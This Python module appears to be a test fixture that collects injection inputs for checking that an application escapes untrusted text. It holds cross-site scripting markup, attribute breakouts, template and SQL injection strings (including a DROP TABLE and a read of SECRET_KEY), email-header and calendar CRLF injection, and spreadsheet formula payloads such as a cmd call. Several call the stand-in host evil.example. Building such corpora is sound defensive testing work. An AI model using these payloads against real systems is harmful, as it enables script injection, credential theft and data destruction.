"""Text that would like to be more than text, by the place at which it aims. Each calls `hostile`, names it, or goes there."""

SCRIPT = "<script>hostile()</script>"
LOOK = "<img src=x onerror=hostile()>"
EVIL = "//evil.example/hostile"

MARKUP = (
    SCRIPT, LOOK, f"<SCRIPT SRC={EVIL}.js></SCRIPT>", "<scr<script>ipt>hostile()</scr</script>ipt>",
    "<img/src=x/onerror=hostile()>", '<img src="x" onerror="hostile()">', "<svg onload=hostile()>",
    "<svg/onload=hostile()//", "<svg><script>hostile()</script></svg>", "<svg><a xlink:href=javascript:hostile()>x</a></svg>",
    "<svg><animate onbegin=hostile() attributeName=x dur=1s>", "<math href=javascript:hostile()>x</math>",
    "<body onload=hostile()>", "<iframe src=javascript:hostile()></iframe>", f"<iframe srcdoc='{LOOK}'></iframe>",
    f"<object data={EVIL}></object>", f"<embed src={EVIL}>", f"<link rel=stylesheet href={EVIL}.css>",
    "<style>*{display:none}</style>", "<style>@import '//evil.example/h.css';</style>",
    f"<meta http-equiv=refresh content=0;url={EVIL}>", f"<base href={EVIL}/>",
    f"<form action={EVIL}><input name=password></form>", "<input autofocus onfocus=hostile()>",
    "<details open ontoggle=hostile()>x</details>", "<video><source onerror=hostile()></video>",
    "<audio src=x onerror=hostile()>", "<marquee onstart=hostile()>x</marquee>", "<select autofocus onfocus=hostile()>",
    "<textarea autofocus onfocus=hostile()>", "<a href=javascript:hostile()>x</a>", f"<a href={EVIL}>x</a>",
    f"<a href='data:text/html,{SCRIPT}'>x</a>", "<button formaction=javascript:hostile()>x</button>",
    "<template><hostile-el></template>", f"<noscript><p title='</noscript>{LOOK}'>", "<plaintext>", "<xmp>",
    f"</textarea>{SCRIPT}", f"</title>{SCRIPT}", f"</style>{SCRIPT}", f"</script>{SCRIPT}", f"</option></select>{LOOK}",
    f"</td></tr></table>{LOOK}", f"</main>{LOOK}", f"<!-- {SCRIPT}", f"-->{SCRIPT}", f"<!--><hostile-el>{LOOK}",
    f"<![CDATA[{SCRIPT}]]>", f"]]>{SCRIPT}", "<?php hostile() ?>", "<%= hostile() %>", "<hostile-el>x</hostile-el>",
    f"<div hx-get={EVIL} hx-trigger=load>x</div>", "<div hx-on:load=hostile()>x</div>", f"<div data-hx-get={EVIL}>x</div>",
    "<p style=position:fixed;inset:0>hostile</p>", "<p id=main hostile=1>x</p>", "<img name=body hostile=1>",
    "<c-alert>hostile</c-alert>", "<hostile-el\n>x", "<hostile-el\t/>", "<HOSTILE-EL/x>", "< script>hostile()</script>",
)  # fmt: skip
BREAKOUTS = (
    f'">{LOOK}', f"'>{LOOK}", f'"/>{SCRIPT}', '" onmouseover="hostile()', "' onmouseover='hostile()", '" hostile="1',
    "' hostile='1", "` hostile=`1", " hostile=1 ", '" style="display:none', f'x" hx-get="{EVIL}', f'x" href="{EVIL}',
    '\\" hostile="1', "\\' hostile='1", f'\\"><hostile-el>{LOOK}', "&quot; hostile=&quot;1", "&#34; hostile=&#34;1",
    '"]}\';hostile();//', "'-hostile()-'", '"-hostile()-"', '";hostile();//', "';hostile();//", "*/hostile()/*",
    "\\u003cscript\\u003ehostile()\\u003c/script\\u003e", "\\x3cscript\\x3ehostile()", "</script>", "<!--<script>",
    "</script", '{"@type": "hostile"}', '", "hostile": "1', '"}, {"hostile": 1}', "\\", "\\\\", '"', "'", "`", "<", ">", "&",
    f"%3Cscript%3Ehostile()%3C/script%3E%22%3E{LOOK}",
)  # fmt: skip
LINKS = (
    "javascript:hostile()", "JaVaScRiPt:hostile()", " javascript:hostile()", "java\tscript:hostile()",
    "javascript&colon;hostile()", "&#106;avascript:hostile()", "javascript:hostile()//@sunrise.example",
    f"data:text/html,{SCRIPT}", "data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=", "vbscript:hostile()",
    EVIL, f"https:{EVIL}", "\\\\evil.example\\hostile", "/\\evil.example", "?next=//evil.example",
    "hostile?bcc=all@evil.example", "hostile&subject=evil@evil.example",
)  # fmt: skip
TEMPLATES = (
    "{{ 'hos'|add:'tile99' }}", '{{ "hos"|add:"tile99" }}', "{% debug %}", '{% include "base.html" %}', "{% load static %}",
    "{{ settings.SECRET_KEY }}", "{{ request.user.password }}", "{{ user.password }}", "{% csrf_token %}", "{# hostile",
    "{%", "%}", "{{", "}}", "${7*7}", "#{7*7}", "{{7*7}}", "{{constructor.constructor('hostile()')()}}", "%(centre)s",
    "%(name)d", "%s%s%s%n", "%", "%%", "{0.__class__}", "{centre.name}", "$name", "`id`", "$(id)",
    "'; DROP TABLE patients_patient; --", "' OR 1=1 --", "\\'; SELECT pg_sleep(9); --",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;", "&amp;lt;b&amp;gt;", "&#60;hostile-el&#62;", "&#x3c;hostile-el&#x3e;", "&lt", "&nbsp;&shy;",
    "&#0;", "&#x110000;", "&NotExistentEntity;",
)  # fmt: skip
CONTROLS = (
    "a\0b", "\0", "<\0script>hostile()</script>", "a\x01b", "a\x07b", "a\x08\x08b", "a\x1b[31mb", "a\x1b]0;hostile\x07",
    "a\x7fb", "a\x80b", "a\x9bb", "a\x0bb", "a\x0cb", "a\x1cb", "a\x85b", "a\u2028b", "a\u2029b", "a\tb", "a\nb", "a\rb",
)  # fmt: skip
HEADERS = (
    "x\r\nBcc: all@evil.example", "x\nBcc: all@evil.example", "x\rBcc: all@evil.example", "x\r\n\tBcc: all@evil.example",
    "x\r\n\r\n<hostile-el>", "x\u2028Bcc: all@evil.example", "x\x0bBcc: all@evil.example", "x%0d%0aBcc: all@evil.example",
    "=?utf-8?q?x=0d=0aBcc:_all@evil.example?=", "x, all@evil.example", "x <all@evil.example>", '"x" <all@evil.example>,',
    "x\r\n.\r\nMAIL FROM:<hostile@evil.example>", "x\r\nContent-Type: text/html", "x\r\nSet-Cookie: hostile=1",
    "Subject: hostile", "x;filename=hostile.html", 'x"; filename="hostile.html',
)  # fmt: skip
CALENDAR = (
    "x\r\nATTENDEE:mailto:all@evil.example", "x\nATTENDEE:mailto:all@evil.example", "x\rATTENDEE:mailto:all@evil.example",
    "x\\nATTENDEE:mailto:all@evil.example", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:hostile", "x\nEND:VCALENDAR",
    "x\u2028END:VEVENT", "x\x85END:VEVENT", "x\r\n ATTENDEE:mailto:all@evil.example", "x;CN=hostile", "x:mailto:evil",
    'x":mailto:all@evil.example', "x^nATTENDEE:x", "x^'y", "x\\;y\\,z\\\\", "BEGIN:VALARM", "x\r\nMETHOD:CANCEL",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "'=1+1", '"=1+1', ";=1+1", "a;=1+1", 'a";=1+1', "a\t=1+1", "a,=1+1", 'a",=1+1', "a|=1+1", "a\n=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "=IMPORTXML(CONCAT(A1),B1)", "%0A=1+1", "\u200b=1+1", "\ufeff=1+1",
)  # fmt: skip
UNICODE = (
    "a\u202ebc\u202c", "\u2066a\u2069", "\u200e\u200f", "\u200b", "\u200ba\u2060", "\ufeffa", "Z\u0351\u036a\u0342\u0352a",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\uff1cscript\uff1ehostile()\uff1c/script\uff1e", "\ufffe", "\uffff",
    "\U000e0041\U000e0042", "\U0010ffff", "\ud800", "a\udfffb", "\u0130I\u0131",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "\u05e9\u05dc\u05d5\u05dd (abc)", "\ufdfd" * 20,
)  # fmt: skip
LONG = ("W" * 5000, "<" * 3000, "\u00e9" * 4000, "a " * 3000, "<b>" * 1000, "&amp;" * 1000)
PAYLOADS = tuple(
    dict.fromkeys(
        (*MARKUP, *BREAKOUTS, *LINKS, *TEMPLATES, *ENTITIES, *CONTROLS, *HEADERS, *CALENDAR, *FORMULAS, *UNICODE, *LONG)
    )
)
TAIL = f" </script>\"'>{LOOK}"  # what no page may let through, whatever stands before it
